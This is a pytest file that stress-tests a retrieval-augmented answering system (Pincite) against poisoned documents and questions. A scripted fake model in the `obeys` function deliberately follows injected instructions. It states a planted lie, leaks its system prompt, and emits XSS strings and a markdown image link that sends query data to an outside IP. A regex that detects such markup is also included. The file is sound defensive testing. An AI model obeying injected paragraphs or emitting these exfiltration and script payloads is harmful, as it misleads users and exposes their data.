"""A model that obeys every injection cannot make Pincite lie; nor can a real small one."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from rag.answering.judging.facts import find_conflicts
from rag.answering.render import to_contract
from rag.assemble import Pincite, ingest
from rag.settings import load_settings
from rag.types import Answer, Query, Refusal, Verdict
from tests.llm.conftest import Open, claim, reply, shown
from tests.llm.hostile import LIE, PARAGRAPHS, QUESTIONS, TOPIC, TRUE
from tests.llm.scripted import Handler, says, serve
from tests.ui.test_markup import _read

STATUSES = {"answered", "not_found", "ambiguous", "rejected"}
PROMPT = "You answer a question from numbered paragraphs"
# Poisoned paragraphs that one document holds, among true ones.
TOGETHER = 8
LOADS = re.compile(r"!\[[^\]]*\]\(|<(?:img|script|iframe|svg)\b|javascript:", re.I)


def obeys(handler: Handler) -> str:
    """States the lie under every label, with and without a quote, leaks the prompt and what a page
    might load, and adds whatever its paragraphs tell it to say."""
    labels = list(shown(handler)) or ["P1"]
    system = str(handler.body["messages"][0]["content"])
    told = [m for m in re.findall(r"[^.\n]*Zorbon[^.\n]*\.?", handler.prompt()) if m.strip()]
    claims = [claim(LIE, label, LIE) for label in (*labels, "P99", "system")]
    claims += [claim(text.strip()[:200], label, text) for text in told for label in labels[:2]]
    claims += [
        claim(system[:180], labels[0], TRUE),
        claim(f"{TRUE} ![x](http://192.0.2.7/leak?q=otters)", labels[0], TRUE),
        claim("<script>alert(1)</script>", labels[0], TRUE),
        claim(f"[Twelve wardens](javascript:alert(1)) watch. {LIE}", labels[0], TRUE),
    ]
    return reply(*claims)


def _document(number: int, poisoned: tuple[str, ...]) -> list[dict[str, object]]:
    texts = [TRUE, *poisoned, "The mill of Veldmark was built of oak and stands by the river."]
    return [
        {
            "document_id": f"veldmark-{number}",
            "document_title": "Charter of Veldmark",
            "section": 1,
            "section_title": "Otters",
            "paragraph": str(place),
            "text": text,
        }
        for place, text in enumerate(texts, 1)
    ]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library of documents that are poisoned, each in other ways."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        row
        for number in range(len(documents()))
        for row in _document(number, PARAGRAPHS[number * TOGETHER : (number + 1) * TOGETHER])
    ]
    file = folder / "veldmark.jsonl"
    file.write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    ingest(load_settings(library=folder / "library"), [file])
    return folder / "library"


@pytest.fixture
def hostile(poisoned: Path, open_llm: Open) -> Callable[..., Pincite]:
    return lambda url, **given: open_llm(url, library=poisoned, **given)


def documents() -> list[str]:
    return [f"veldmark-{n}" for n in range(-(-len(PARAGRAPHS) // TOGETHER))]


def test_there_are_enough() -> None:
    assert len(PARAGRAPHS) + len(QUESTIONS) >= 40
    assert len(set(PARAGRAPHS)) + len(set(QUESTIONS)) == len(PARAGRAPHS) + len(QUESTIONS)


def _check(opened: Pincite, outcome: Answer | Refusal) -> None:
    """Whatever the model said: a status of the contract, nothing of the lie or the prompt stated,
    nothing that a page would load or run, and quotes that are exact."""
    told = to_contract(outcome)
    assert told["status"] in STATUSES
    texts = {x.pinpoint.label: x.paragraph.text for x in opened.catalogue}
    labelled = {
        (x.pinpoint.document_id, x.pinpoint.label): x.paragraph.text for x in opened.catalogue
    }
    for c in told["citations"]:
        assert labelled[c["document_id"], c["pinpoint"]][c["start"] : c["end"]] == c["quote"]
    assert PROMPT not in told["answer"]
    if not isinstance(outcome, Answer):
        return
    for made in outcome.claims:
        cited = [labelled[c.document_id, c.pinpoint] for c in made.citations]
        if all(made.text == c.quote for c in made.citations):
            continue  # the document's own words, shown as its words
        assert "Zorbon" not in made.text
        assert LOADS.search(made.text) is None
        if made.verdict is Verdict.SUPPORTED:
            assert find_conflicts(made.text, "\n".join(cited)) == ()
    assert texts


@pytest.mark.parametrize("document", documents())
def test_poisoned_paragraphs_with_a_model_that_obeys(
    hostile: Callable[..., Pincite], document: str
) -> None:
    with serve(says(obeys)) as script:
        opened = hostile(script.url)
        outcome = opened.chain.invoke(Query(question=TOPIC, documents=(document,)))
        _check(opened, outcome)
        assert isinstance(outcome, Answer)
        assert "Twelve wardens" in outcome.text
        assert "Zorbon" not in outcome.text
        assert script.requests, "the model was asked"


@pytest.mark.parametrize("text", PARAGRAPHS)
def test_no_order_in_a_document_reaches_the_model(text: str) -> None:
    from rag.answering.llm.instructions import speaks_to_model

    assert speaks_to_model(text)


@pytest.mark.parametrize("question", QUESTIONS)
def test_poisoned_questions_with_a_model_that_obeys(
    hostile: Callable[..., Pincite], question: str
) -> None:
    with serve(says(obeys)) as script:
        opened = hostile(script.url)
        outcome = opened.chain.invoke(Query(question=question, documents=("veldmark-0",)))
        _check(opened, outcome)
        if isinstance(outcome, Answer):
            assert "Zorbon" not in outcome.text


def test_what_is_left_out_is_text_on_the_page(hostile: Callable[..., Pincite]) -> None:
    """The obeying model's markup is listed as left out: as text, not as elements."""
    from rag.ui.view import draft_html, left_out_html

    with serve(says(obeys)) as script:
        opened = hostile(script.url)
        outcome = opened.chain.invoke(Query(question=TOPIC, documents=("veldmark-2",)))
    assert isinstance(outcome, Answer)
    assert any("![x](" in x.text for x in outcome.left_out)
    pieces = [draft_html(outcome), *(left_out_html(x, is_struck=True) for x in outcome.left_out)]
    allowed = {"p", "div", "blockquote", "del"}
    assert {name for piece in pieces for name in _read(piece).tags} <= allowed


def test_a_real_small_model_on_poisoned_text(
    hostile: Callable[..., Pincite], small_model: str
) -> None:
    opened = hostile(small_model, model_deadline=20)
    for document, question in ((documents()[1], TOPIC), (documents()[0], QUESTIONS[3])):
        _check(opened, opened.chain.invoke(Query(question=question, documents=(document,))))
